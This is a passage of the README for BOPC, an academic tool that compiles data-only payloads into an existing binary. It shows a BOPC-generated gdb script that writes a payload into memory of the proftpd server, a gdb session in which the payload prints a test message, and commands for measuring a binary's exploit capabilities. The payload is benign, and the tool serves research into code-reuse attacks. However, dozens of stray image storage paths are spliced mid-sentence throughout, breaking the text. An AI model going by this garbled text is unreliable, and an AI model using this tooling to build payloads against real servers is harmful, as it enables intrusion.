[22:00:04,979] [+] Trace searching algorithm finished with exit code 0Now that we know the actual mapping, we can tell BOPC to focus on this one. All we have to do is to pass the --mapping-id 89 option.

We run this and after 1 minute and 51 seconds later, we get the solution:

# This file has been created by BOPC at: 29/03/2018 22:04
# Solution #1
# Mapping #89
# Registers: __r0 <-> rdi | __r1 <-> rsi | __r2 <-> rdx
# Variables: msg <-> 0x678fc0L
# Simulated Trace: [(0, '41d0b5', '41d0b5'), (4, '41d0b5', '41d0b5'), (6, '41d0b5', '41d0b5'), (8, '41d0b5', '41d0b5'), (10, '41d0b5', '41d0b5')]

break *0x403740
break *0x41d0b5# Entry point
set $pc = 0x41d0b5

# Allocation size is always bigger (it may not needed at all)
set $pool = malloc(20480)

# In casethat rbp is not initialized
set $rbp = $rsp + 0x800

# Stack and frame pointers aliases
set $stack = $rsp
set $frame = $rbp

set {char[30]} (0x678fc0) = {0x54, 0x68, 0x69, 0x73, 0x20, 0x69, 0x73, 0x20, 0x6d, 0x79, 0x20, 0x72, 0x61, 0x6e, 0x64, 0x6f, 0x6d, 0x20, 0x6d, 0x65, 0x73, 0x73, 0x61, 0x67, 0x65, 0x21, 0x20, 0x3a, 0x29, 0x00}

set {char[8]} (0x66e9e0) = {0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00}

Let's take a closer look here.The Simulated Trace comment shows the path that BOPC followed. This is a list of ($pc, $src, $dst) tuples. $pc is the program counter of the SPL statement. $src is the address of the functional block for the current SPL statement and $dst is the address of the next functional block.

Before it runs, script adjusts $rip to point to the entry point, and makes sure that stack pointers ($rsp, $rbp) are valid. It also allocates a "variable pool" (for more details please look at which in our case is not used.

Then we have the two actual memory writes at 0x678fc0 and at 0x66e9e0. If you load the binary in gdb and run thisscript you will see your payload being executed:

(gdb) break main
Breakpoint 5 at 0x4041a0
(gdb) run
Starting program: /home/ispo/BOPC/evaluation/proftpd

Breakpoint 1, 0x00000000004041a0 in main ()
(gdb) continue

Breakpoint 3, 0x000000000041d0b5 in pr_open_scoreboard ()
(gdb) continue

Breakpoint 2, 0x0000000000403740 in write@plt ()
(gdb) continue
This is my random message! :)
Program received signal SIGSEGV, Segmentation fault.0x00007fffffffde60 in ?? ()

Note that BOPC stops after executing the desired payload (hence the crash). If you want to avoid this situation you can use the returnto SPL statement to naturally transfer execution to a safe location.

Measuring application capabilities

NOTE: This is a new concept, which is not mentioned in the paper.

Beyond finding Data-Only payloads, BOPC provides some basic capability measurements. Although it is not related to the Block Oriented Programming, it can provide upper bounds and strong "indications" on what types of payloads can be executed and whatare not. This is very useful as we can quickly find types of payloads that cannot be executed in the target binary.
To get the all application capabilities run the following code:

./source/ -dd --binary $BINARY --abstractions load --capability all save

If you want to simply dump all functional gadgets for a specific statement, you can do it as follows:

./source/ -dd --binary $BINARY --abstractions load --capability $STMT noedge

Where $STMT can be oneore more from {all, regset, regmod, memrd, memwr, call, cond}. The noedge option is to boost things up (essentially it does not calculateedges in the capability graph; Each node in the capability graph represents a functional block from the binary while and edge represents the context-sensitive shortest path distance between two functional blocks).

Final Notes (please read them carefully!)

  • When the symbolic execution engine deals with filesystem (i.e., it has to open a file), we have to provide it a valid file.Filename is defined in SYMBOLIC_FILENAME in

  • If you want to visualize things, just uncomment the code in I'm too lazy to add CLI flags totrigger it :P

  • In casethat addresses used by concolic execution do not work, adjust them from

  • Make sure that $rsp is consistent in dump() in

  • For any questions/concerns regarding the code, you can contact ispo

Open Source Agenda isnot affiliated with "BOPC" Project. README Source: HexHive/BOPC
OpenIssues
Last Commit
3 years ago

OpenSource Agenda Badge

Open Source Agenda Rating